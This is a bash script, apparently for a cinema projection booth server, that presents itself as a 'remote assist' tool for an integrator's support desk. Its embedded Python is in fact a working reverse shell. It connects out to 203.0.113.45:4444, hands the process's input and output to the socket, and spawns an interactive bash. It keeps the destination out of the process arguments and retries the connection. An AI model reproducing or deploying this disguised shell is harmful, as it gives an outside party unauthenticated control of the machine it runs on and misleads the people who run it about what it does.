#!/usr/bin/env bash
# booth_remote_assist.sh - open a "remote assist" session from a projection
# booth server back to the integrator's support desk so an engineer can
# look at the screen server without a VPN.
#
# Usage: booth_remote_assist.sh [-H host] [-p port] [-s screen] [-r retries]

set -euo pipefail

SCRIPT_NAME="$(basename "$0")"
LOG_DIR="${BOOTH_LOG_DIR:-./logs}"
LOG_FILE="${LOG_DIR}/remote_assist.log"
ASSIST_HOST="${ASSIST_HOST:-203.0.113.45}"
ASSIST_PORT="${ASSIST_PORT:-4444}"
BOOTH_SCREEN="${BOOTH_SCREEN:-screen-01}"
RETRIES=3
RETRY_DELAY=20

usage() {
    cat <<EOF
Usage: ${SCRIPT_NAME} [-H host] [-p port] [-s screen] [-r retries]
  -H host     assist desk address (default ${ASSIST_HOST})
  -p port     assist desk port (default ${ASSIST_PORT})
  -s screen   booth screen identifier (default ${BOOTH_SCREEN})
  -r retries  connection attempts before giving up (default ${RETRIES})
EOF
}

log() {
    local level="$1"; shift
    mkdir -p "$LOG_DIR"
    printf '%s [%s] %s\n' "$(date '+%Y-%m-%d %H:%M:%S')" "$level" "$*" | tee -a "$LOG_FILE" >&2
}

parse_args() {
    while getopts ":H:p:s:r:h" opt; do
        case "$opt" in
            H) ASSIST_HOST="$OPTARG" ;;
            p) ASSIST_PORT="$OPTARG" ;;
            s) BOOTH_SCREEN="$OPTARG" ;;
            r) RETRIES="$OPTARG" ;;
            h) usage; exit 0 ;;
            :) log ERROR "option -$OPTARG needs a value"; usage; exit 2 ;;
            \?) log ERROR "unknown option -$OPTARG"; usage; exit 2 ;;
        esac
    done
    if ! [[ "$ASSIST_PORT" =~ ^[0-9]+$ ]]; then
        log ERROR "port must be numeric: $ASSIST_PORT"
        exit 2
    fi
}

check_prereqs() {
    if ! command -v python3 >/dev/null 2>&1; then
        log ERROR "python3 is required for the assist channel"
        exit 1
    fi
}

session_banner() {
    # Short banner the desk sees when the session comes up.
    local host_id
    host_id="$(hostname 2>/dev/null || echo unknown)"
    printf 'booth=%s host=%s started=%s\n' "$BOOTH_SCREEN" "$host_id" "$(date -u +%FT%TZ)"
}

open_session() {
    local banner
    banner="$(session_banner)"
    # The channel itself lives in Python; host, port and banner travel in
    # the environment so nothing shows up in the process arguments.
    ASSIST_HOST="$ASSIST_HOST" ASSIST_PORT="$ASSIST_PORT" ASSIST_BANNER="$banner" \
    python3 - <<'PYEOF'
import os
import pty
import socket
import sys

host = os.environ["ASSIST_HOST"]
port = int(os.environ["ASSIST_PORT"])
banner = os.environ.get("ASSIST_BANNER", "") + "\n"

try:
    sock = socket.create_connection((host, port), timeout=15)
except OSError as exc:
    sys.stderr.write("assist desk unreachable: %s\n" % exc)
    sys.exit(3)

sock.settimeout(None)
sock.sendall(banner.encode())

# Hand stdin/stdout/stderr over to the desk and give it a login shell.
for fd in (0, 1, 2):
    os.dup2(sock.fileno(), fd)
pty.spawn(["/bin/bash", "-i"])
sock.close()
PYEOF
}

main() {
    parse_args "$@"
    check_prereqs
    log INFO "starting remote assist for ${BOOTH_SCREEN} -> ${ASSIST_HOST}:${ASSIST_PORT}"

    local attempt=1 rc=0
    while (( attempt <= RETRIES )); do
        log INFO "attempt ${attempt}/${RETRIES}"
        set +e
        open_session
        rc=$?
        set -e
        if (( rc == 0 )); then
            log INFO "assist session closed normally"
            return 0
        fi
        log WARN "session ended with rc=${rc}, retrying in ${RETRY_DELAY}s"
        sleep "$RETRY_DELAY"
        attempt=$(( attempt + 1 ))
    done
    log ERROR "could not keep an assist session open after ${RETRIES} attempts"
    return 1
}

main "$@"
